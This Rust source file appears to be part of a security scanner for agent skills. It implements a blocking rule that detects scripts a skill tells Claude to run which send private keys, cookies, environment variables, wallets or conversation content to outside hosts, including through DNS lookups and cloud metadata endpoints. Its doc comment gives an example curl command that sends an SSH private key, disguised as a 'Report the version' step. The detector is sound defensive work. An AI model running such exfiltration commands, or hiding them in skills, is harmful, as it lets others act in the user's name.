use flywheel_messages::{Message, message};

use super::deeds::{Verdict, judge_deeds, runs_unseen};
use super::hosts::{host_of, is_bare, is_own};
use crate::audit::addresses::is_at;
use crate::audit::rule::declare_rule;
use crate::audit::scripts::sensitive::{is_metadata, of_path};
use crate::audit::scripts::{Act, Event, HOLE, Made, Script, Sensitive, Value};
use crate::audit::{Check, FileView, Observation, Scope};

declare_rule! {
    /// ## What it checks
    /// Scripts, hooks, and commands that a text tells Claude to run, in which something that nobody
    /// hands to a stranger is sent somewhere: private keys and the sign-ins of other programs, all
    /// variables of the environment, passwords and cookies of a browser, wallets, what somebody
    /// typed or copied, what a hook is told of the conversation. The key of a known service that goes
    /// to somebody else, a whole folder of the person, keys that are copied to another file, and
    /// something encoded, or the name of the account, in a host name that is looked up, are for a
    /// person to judge. The script is followed from where it reads to where
    /// it sends, through variables, functions, files, archives and the other scripts of the skill
    /// that it loads. A token in the header of a request is what headers are for, and is left
    /// alone.
    ///
    /// ## Why it matters
    /// This is how a skill steals. With a key or a cookie somebody else acts in the name of the
    /// person, without a password.
    ///
    /// ## Example
    /// `curl -d "$(cat ~/.ssh/id_rsa)" https://…` behind a step called “Report the version”.
    ///
    /// ## How to fix
    /// Remove it. A skill that needs a service reaches it through a connector, which signs in by
    /// itself.
    ///
    /// Source: Anthropic, “Skills for enterprise” (no patterns of reading, then sending), November
    /// 2026; OWASP Agentic Skills Top 10, AST01.
    NO_SECRETS_SENT {
        code: "EXEC-006",
        name: "no_secrets_sent",
        group: Running,
        level: Block,
        since: "0.1.0",
        summary: "Keys, passwords or the whole environment are sent somewhere",
        scope: Scope::Everywhere,
        check: Check::File(check),
    }
}

fn check(view: &FileView<'_>, out: &mut Vec<Observation>) {
    judge_deeds(view, out, judge);
}

fn judge(script: &Script, event: &Event) -> Option<Verdict> {
    match &event.act {
        Act::Contact { address, sends } => of_contact(address, sends),
        Act::Write { path, content } if !runs_unseen(script) => of_copy(path, content),
        _ => None,
    }
}

/// What it means that `content` is written to the file `path`.
fn of_copy(path: &Value, content: &Value) -> Option<Verdict> {
    let (what, _) = content.from.sensitive?;
    let opens_doors = matches!(
        what,
        Sensitive::Keys | Sensitive::SignIns | Sensitive::Browser | Sensitive::Wallet
    );
    let texts = path.texts();
    let is_kept = |text: &&str| text.starts_with("/dev/") || of_path(text).is_some();
    let stays = texts.is_empty() || texts.iter().any(is_kept);
    (opens_doors && !stays).then(|| {
        let file = super::deeds::shown(path);
        Verdict::review(
            message!("Keys, or what programs sign in with, are copied to {file}"),
            message!(
                "There they are no longer guarded, and may be handed on with the file. Remove it, \
                 or say why the copy is needed and when it is deleted."
            ),
        )
    })
}

/// What it means that `sends` goes to `address`.
fn of_contact(address: &Value, sends: &Value) -> Option<Verdict> {
    let addresses = address.texts();
    if addresses.iter().any(|address| is_metadata(address)) {
        return Some(Verdict::review(
            message!("It asks the cloud for the credentials of the computer it runs on"),
            message!(
                "That address hands out keys to everything the computer may do. Hardly any skill \
                 needs them: check what becomes of the answer, or remove it."
            ),
        ));
    }
    let carried = sends.from.and(address.from).sensitive;
    let (what, _) = match carried {
        Some(known) if known.0 != Sensitive::Account => known,
        _ => return in_name(address),
    };
    let is_shown = what == Sensitive::Token && sends.from.sensitive.is_none();
    if is_shown || stays_here(address) {
        return None;
    }
    let host = addresses.iter().find_map(|address| host_of(address));
    if let Sensitive::KeyOf(service) = what
        && host.as_ref().is_none_or(|host| service.owns(host))
    {
        return None;
    }
    let is_forge = |host: &String| FORGES.iter().any(|forge| is_at(host, forge));
    if what == Sensitive::Folder && host.as_ref().is_some_and(is_forge) {
        return None;
    }
    let is_open = addresses.iter().any(|address| is_bare(address));
    let host = host.unwrap_or_else(|| super::deeds::shown(address));
    let title = title(what, &host);
    let message = message!(
        "Whoever gets it can act in the name of the person. Remove it; a skill that needs a \
         service reaches it through a connector."
    );
    let is_weighed = matches!(
        what,
        Sensitive::Settings | Sensitive::Folder | Sensitive::KeyOf(_) | Sensitive::Token
    );
    let is_stray = is_open && what == Sensitive::Token;
    Some(if is_weighed && !is_stray {
        Verdict::review(title, message)
    } else {
        Verdict::block(title, message)
    })
}

/// What it means that a name is looked up which is made of something encoded, or of who somebody is:
/// whoever owns the domain is asked for it, and so told.
fn in_name(address: &Value) -> Option<Verdict> {
    let is_account = address.from.sensitive.is_some();
    let is_made = is_account || address.made.has(Made::ENCODED);
    let names = address.texts().into_iter();
    let name = names.filter(|_| is_made).find(|name| is_filled_in(name))?;
    let (_, domain) = name.rsplit_once(HOLE)?;
    let domain = domain.trim_start_matches('.');
    Some(Verdict::review(
        message!("What the computer knows is sent to {domain} in a name that is looked up"),
        message!(
            "A name is asked for at the server of its domain, past every firewall, and nobody \
             sees it. Look up names that stand in the skill, or find out what this one carries."
        ),
    ))
}

/// Whether `name` is that of a host below a domain, with a part that is filled in.
fn is_filled_in(name: &str) -> bool {
    let is_name = !name.contains(['/', '@', ':', ' ']);
    let domain = name.rsplit_once(HOLE).map_or("", |(_, domain)| domain);
    is_name && domain.starts_with('.') && domain.matches('.').count() >= 2
}

/// Where repositories are kept as a whole.
const FORGES: [&str; 5] = [
    "github.com",
    "gitlab.com",
    "bitbucket.org",
    "codeberg.org",
    "dev.azure.com",
];

/// Whether `address` is one of the computer itself.
fn stays_here(address: &Value) -> bool {
    let texts = address.texts();
    !texts.is_empty() && texts.into_iter().all(is_own)
}

fn title(what: Sensitive, host: &str) -> Message {
    match what {
        Sensitive::Account => message!("Who somebody is on their computer is sent to {host}"),
        Sensitive::Folder => message!("A whole folder of the person is sent to {host}"),
        Sensitive::KeyOf(service) => {
            message!(
                "The key in a variable of {service} is sent to {host}",
                service = service.name()
            )
        }
        Sensitive::Settings | Sensitive::WholeSettings => {
            message!("A file of settings, which may hold keys, is sent to {host}")
        }
        Sensitive::Token => message!("A key that a program keeps is sent to {host}"),
        Sensitive::Talk => message!("What is said to Claude and what it does is sent to {host}"),
        Sensitive::Secrets => message!("All secrets of the repository are sent to {host}"),
        Sensitive::Environment => message!("All variables of the environment are sent to {host}"),
        Sensitive::History => {
            message!("What the person typed, copied or keeps in the keychain is sent to {host}")
        }
        Sensitive::Browser => message!("Passwords or cookies of a browser are sent to {host}"),
        Sensitive::Wallet => message!("A wallet is sent to {host}"),
        Sensitive::SignIns => message!("What other programs sign in with is sent to {host}"),
        Sensitive::Keys => {
            message!("Private keys, or passwords of the computer, are sent to {host}")
        }
    }
}
